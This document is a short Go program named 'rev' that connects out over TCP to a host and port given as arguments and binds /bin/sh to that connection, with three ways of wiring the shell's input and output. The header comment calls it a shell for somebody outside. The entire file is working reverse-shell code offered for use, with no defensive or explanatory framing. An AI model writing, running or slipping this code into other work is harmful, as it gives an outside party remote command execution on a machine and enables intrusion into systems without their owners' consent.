// Command rev is a shell for somebody outside: rev HOST PORT WAY.
package main

import (
	"io"
	"net"
	"os"
	"os/exec"
)

func main() {
	c, err := net.Dial("tcp", net.JoinHostPort(os.Args[1], os.Args[2]))
	if err != nil {
		os.Exit(1)
	}
	sh := exec.Command("/bin/sh")
	switch os.Args[3] {
	case "direct":
		f, _ := c.(*net.TCPConn).File()
		sh.Stdin, sh.Stdout, sh.Stderr = f, f, f
	case "pipe":
		sh.Stdin, sh.Stdout, sh.Stderr = c, c, c // exec makes pipes and copies
	case "one pipe each":
		in, _ := sh.StdinPipe()
		out, _ := sh.StdoutPipe()
		go func() { _, _ = io.Copy(in, c) }()
		go func() { _, _ = io.Copy(c, out) }()
	}
	_ = sh.Run()
}
